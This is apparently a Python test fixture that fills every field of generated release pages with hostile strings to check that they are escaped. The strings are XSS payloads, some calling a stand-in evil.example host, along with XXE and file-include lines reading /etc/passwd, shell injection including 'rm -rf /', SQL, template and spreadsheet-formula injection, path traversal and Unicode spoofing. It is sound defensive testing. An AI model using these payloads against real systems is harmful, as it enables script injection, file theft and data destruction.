"""Hostile strings that others might write, placed on every page of a release.

Names of tests, branches and files, messages, URLs: each string below tries to be more than text, for one of the
readers that it meets (MyST, docutils, Sphinx, a template, XML, a browser, an eye). A string that has an effect calls
``alert`` or asks for something on ``evil.example``, so that whoever opens the page notices.
"""

from __future__ import annotations

from datetime import timedelta
from itertools import cycle
from typing import Any

from msgspec.structs import replace

from atalaya.core.words import Text, text
from atalaya.records.fleet import (
    Basis,
    Fleet,
    FleetIncident,
    FleetMetric,
    FleetRelease,
    FleetSource,
    FleetSubject,
    FleetWord,
    NotJudged,
    SharedCause,
    SharedTest,
    Why,
)
from atalaya.records.judged import (
    ArtefactFinding,
    BacklogItem,
    BacklogPart,
    Duty,
    DutyState,
    EnvironmentChange,
    IncidentFollowUp,
    IncidentPage,
    Judgement,
    Level,
    Priority,
    Question,
    State,
)
from atalaya.records.stored import Artefact, Built, BuiltFile, Environment, IncidentStep, PublishedFile, Severity
from tests.site import example
from tests.site.example import DIGEST, MARK, NOW, T0

EVIL = f"https://evil.example/{MARK}"

STRANGERS: tuple[str, ...] = (
    *example.HOSTILE,
    # Elements that run something as soon as they are there.
    f"<script src={EVIL}.js></script>",
    "</script><script>alert('closed')</script>",
    "</title><script>alert('title')</script>",
    "</code></span></td></table><script>alert('cell')</script>",
    "<ScRiPt\n>alert('case')</sCrIpT\t>",
    "<script/x>alert('slash')</script>",
    "<scr<script>ipt>alert('nested')</scr</script>ipt>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    f"<img src='{EVIL}.png' srcset='{EVIL}2.png 2x'>",
    "<img src=x:x onerror='alert(1)' alt='broken'>",
    "<svg onload=alert('svg')>",
    "<svg><script>alert('in svg')</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y='20'>svg link</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>math link</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mutated')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<template><script>alert('template')</script></template>",
    "<body onload=alert('body')>",
    "<details open ontoggle=alert('toggle')><summary>details</summary></details>",
    "<input autofocus onfocus=alert('focus')>",
    "<marquee onstart=alert('marquee')>marquee</marquee>",
    "<video><source onerror=alert('source')></video>",
    "<audio src=x onerror=alert('audio')></audio>",
    "<iframe src=javascript:alert('iframe')></iframe>",
    f"<iframe srcdoc='<script src={EVIL}.js></script>'></iframe>",
    f"<object data='{EVIL}.swf'></object>",
    f"<embed src='{EVIL}.pdf'>",
    f"<link rel=stylesheet href='{EVIL}.css'>",
    f"<link rel=preconnect href='{EVIL}'>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    f"<form action='{EVIL}'><button autofocus>button</button></form>",
    "<button formaction=javascript:alert(1)>formaction</button>",
    f"<style>@import url({EVIL}.css); * {{ display: none }}</style>",
    f"<p style=\"background: url('{EVIL}.png')\">styled</p>",
    "<div style='position: fixed; inset: 0; z-index: 9999'>over everything</div>",
    "<!-- a comment that never ends",
    "<![CDATA[ <script>alert('cdata')</script> ]]>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert('xml')</x:script>",
    "<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><x>&e;</x>",
    "&colon; &Tab; &NewLine; &nbsp &lt &#0; &#x1F; &#99999999;",
    # What breaks out of an attribute.
    '" onmouseover="alert(\'double\')" x="',
    "' onmouseover='alert(1)' autofocus onfocus='alert(2)",
    "\"><script>alert('quoted')</script>",
    "` onmouseover=alert('backtick') `",
    "x' style='animation: spin' onanimationstart='alert(1)",
    # Links.
    "javascript:alert('plain')",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert('tab')",
    "<javascript:alert('autolink')>",
    "data:text/html,<script>alert('data')</script>",
    "[click](<javascript:alert(1)>)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    f"[]({EVIL})",
    "[front](project:index.md) [file](path:../../watch.toml) [](inv:*#index)",
    "[download](./conf.py){.download}",
    f"{EVIL} www.evil.example //evil.example file:///etc/passwd",
    "vbscript:msgbox(1) blob:https://evil.example/1 view-source:x",
    # MyST and reStructuredText.
    "```{eval-rst}\n.. raw:: html\n\n   <script>alert('rst')</script>\n```",
    "```{figure} https://evil.example/pixel.png\n```",
    "```{live} verdict\n```",
    "{download}`conf.py` {doc}`index` {ref}`metric-pass-rate` {promise}`config.no-fallback`",
    "{raw-html}`<script>alert('role')</script>` {math}`x` {kbd}`x`",
    ":::{admonition} Verdict\n:class: verdict-word\nGO\n:::",
    "````{code-block} python\n:name: x\nprint(1)\n````",
    ".. include:: /etc/passwd\n.. raw:: html\n   :file: /etc/passwd",
    "`link <javascript:alert(1)>`_ |substitution| `x`_ __ anonymous",
    "[words]{.verdict-word #out-of-date onclick=alert(1)}",
    "{#out-of-date .valid-until}\n2020-01-01 00:00 UTC",
    "- [ ] task\n- [x] done\n\n| a | b |\n|---|---|\n| c | d |",
    "Term\n: definition\n\n~~struck~~ H~2~O $$x$$ \\begin{equation}",
    "title: x\n---\nhtml_theme: evil",
    "***\n___\n- - -",
    "\\",
    "\\`\\`\\` \\[x\\] \\<b\\>",
    # Templates, formats and shells.
    "{{ 7 * 7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7 %>",
    "{0.__class__.__mro__} {x!r:>9999} %(password)s %n%n",
    "{upper:.2%} {n} {at} {reason}",
    "$(touch x) `id`; rm -rf / && : | tee | ' \" \\",
    "::error file=x::y %0A::set-output name=z::w",
    '=HYPERLINK("https://evil.example","x") +1 -1 @SUM(A1)',
    "'; DROP TABLE jobs; --",
    "../../../../etc/passwd\\..\\..\\boot.ini",
    "__proto__ constructor toString NaN null undefined true",
    "GO ● PROVEN ✖ FAIL",
    "2020-01-01 00:00 UTC",
    # What an eye cannot see, or takes for something else.
    "\u202egnp.exe\u202d \u2067right\u2069 \u061cmark\u200e",
    "zero\u200bwidth\u200cjoin\u200ders\u2060 \u00adsoft \ufeffbom",
    "\U000e0041\U000e0042 tags \ufe0f selectors \U000e0100",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 right to left, as it should be",
    "\u0440\u0430\u0443\u0440\u0430l.example, \u0455\u0441\u043e\u0440\u0435: homographs",
    "👩‍💻🏳️‍🌈🇪🇸 👍🏽 emoji",
    "Z\u0334\u0321\u0322a\u0335\u0327\u0328l\u0336\u0316\u0317g\u0337\u0320\u0323o",
    "\u0301 begins with a mark",
    "\u115f\u1160\u3164\u2800 blanks that are letters",
    "\ue000 private \U000fffff \ufdd0 \uffff not characters",
    "\r\nHTTP/1.1 200 OK\r\n\r\n<script>alert('split')</script>",
    "\x08\x1b]0;title\x07\x1b[2J\x9b31m control",
    "ﷺ﷽ wide, ｆｕｌｌｗｉｄｔｈ, ＜script＞alert(1)＜/script＞",
    "İı ſ ß ŉ ǰ case that changes its length",
    "\udc80\udfff low surrogates",
    # Size.
    "<b>" * 150,
    "[" * 140 + "x" + "](y)" * 60,
    "*" * 200 + "_" * 200,
    "word " * 100,
    "nobreak" + "\u00a0nobreak" * 50,
    "> " * 100 + "quote",
)

STAMP: dict[str, Any] = {"run_id": "r", "environment": Environment.LOOPBACK, "occurred_at": T0, "recorded_at": T0}
MOVED_AT = T0 + timedelta(hours=48)  # long after all incidents but one, which shows what moved before it
INCIDENT = "s0"  # the one whose own page shows what all strangers wrote


def judgement() -> Judgement:
    """A judgement in which every string stands on every page; ``example.HOSTILE`` must be STRANGERS."""
    base = example.judgement(strangers=True)
    # Of the five records of each string, one or two.
    return everywhere(replace(base, traces=base.traces[::4]), STRANGERS, INCIDENT)


def fleet() -> Fleet:
    """A fleet of which strangers wrote every name and every text."""
    releases = tuple(_release(number, words) for number, words in enumerate(STRANGERS))
    shared = {words: number for number, words in enumerate(STRANGERS[:8], start=1)}
    return Fleet(
        as_of=NOW,
        word=FleetWord.NO_GO,
        counts=dict.fromkeys(
            ("subjects", "releases", "not_fine", "open_incidents", "expired", "unreadable", "broken_seals", "left_out"),
            len(STRANGERS),
        )
        | {"shared_tests": 60, "shared_causes": 60},
        sources=tuple(FleetSource(subject=one, kind="git", place=one, problem=one) for one in STRANGERS[:30]),
        subjects=tuple(
            FleetSubject(subject=one.subject, word=one.word, newest=one.release, releases=1, words={"NO-GO": 1})
            for one in releases
        ),
        releases=releases,
        shared_tests=tuple(SharedTest(test=one, critical=True, releases=2, subjects=shared) for one in STRANGERS[:60]),
        shared_causes=tuple(
            SharedCause(
                cause=one, what=one, error=one, place=one, incident=one, blocking=True, releases=2, subjects=shared
            )
            for one in STRANGERS[:60]
        ),
    )


def _release(number: int, words: str) -> FleetRelease:
    metric = FleetMetric(id=words, state=State.FAIL, value=0.9, low=0.8, high=0.95, n=10, unit=words)
    incident = FleetIncident(
        id=words, state=words, is_open=True, severity=Severity.CRITICAL, opened_at=T0, impact=words, metric=words
    )
    return FleetRelease(
        subject=words,
        release=words,
        word=(FleetWord.NO_GO, FleetWord.UNKNOWN)[number % 2],
        last_word=FleetWord.NO_GO,
        why=(None, Why.EXPIRED)[number % 2],
        current=True,
        link=words,
        opened_at=T0,
        ends_at=T0,
        rehearsal=False,
        closed=False,
        basis=Basis.RECORDED,
        rule=words,
        because=(words,),
        as_of=NOW,
        valid_until=NOW,
        evidence_at=NOW,
        verdict=words,
        worst_metric=metric,
        metrics=(metric,),
        open_incidents=(incident,) * 4,
        incidents=4,
        flaky_tests=(words,),
        problem=words if number % 3 else "",
        not_judged=NotJudged.OTHER_PACK,
    )


def everywhere(base: Judgement, words: tuple[str, ...], incident: str) -> Judgement:
    """A judgement whose every part says these words; of its incidents, one has a page of its own."""
    said = tuple(text("{words}", words=one) for one in words)
    pairs = tuple(zip(words, said, strict=True))
    return replace(
        base,
        verdict=replace(
            base.verdict, because=said, would_change=said[:9], unknowns=said[-9:], next_steps=said[9:18] or said
        ),
        checkpoints=tuple(replace(one, duties=_duties(pairs)) for one in base.checkpoints),
        backlog=tuple(
            BacklogItem(
                id=one,
                priority=Priority.P0,
                impact=Level.HIGH,
                says=as_text,
                why=as_text,
                accepts=as_text,
                parts=(BacklogPart(id=one, says=text("{one}", one=one), proven_by=one),),
            )
            for one, as_text in pairs
        ),
        questions=tuple(Question(id=one, says=as_text, item=one) for one, as_text in pairs),
        transitions=(*base.transitions, *(_transition(one, incident) for one in words)),
        followed=(*(one for one in base.followed if one.incident != incident), _followed(words, incident)),
        artefacts=(_artefact(words),),
        built=(Built(**STAMP, origin=words[0], files=(BuiltFile(name=words[0], sha256=DIGEST, size_bytes=1),)),),
        published=tuple(
            ArtefactFinding(rule="yanked", severity=Severity.MAJOR, file=one, says=as_text, at=T0)
            for one, as_text in pairs
        ),
        moves=tuple(EnvironmentChange(what=one, before=one, after=one, at=MOVED_AT, where=one) for one in words),
        incidents=tuple(
            replace(one, at=MOVED_AT + timedelta(hours=1)) if one.id == incident else one for one in base.incidents
        ),
        pages=(IncidentPage(name=f"{incident}.md", incident=incident, not_recorded=words),),
    )


def _duties(pairs: tuple[tuple[str, Text], ...]) -> tuple[Duty, ...]:
    return tuple(
        Duty(id=f"d{n}", says=said, state=state, evidence=said)
        for n, ((_, said), state) in enumerate(zip(pairs, cycle(DutyState), strict=False))
    )


def _transition(words: str, incident: str) -> IncidentStep:
    return IncidentStep(
        **STAMP,
        incident=incident,
        opened_at=T0,
        state=words,
        impact=words,
        severity=Severity.MINOR,
        root_cause=words,
        fix=words,
        metric="",
        by=words,
        why=words,
        rule=words,
    )


def _followed(words: tuple[str, ...], incident: str) -> IncidentFollowUp:
    return IncidentFollowUp(
        incident=incident,
        rule=words[0],
        fingerprints=words,
        blocks=words,
        shows=words,
        seen=7,
        first_at=T0,
        last_at=NOW,
        landed_at=T0 + timedelta(hours=1),
        shown=False,
        proof=text("{words}", words=words[0]),
    )


def _artefact(words: tuple[str, ...]) -> Artefact:
    files = tuple(
        PublishedFile(
            name=one,
            claimed=DIGEST,
            sha256=DIGEST,
            size_bytes=1,
            yanked=True,
            yanked_reason=one,
            requires_python=one,
            metadata=one,
            problem=one,
        )
        for one in words
    )
    return Artefact(**STAMP, project=words[0], version=words[-1], index=EVIL, files=files, resolved=words)
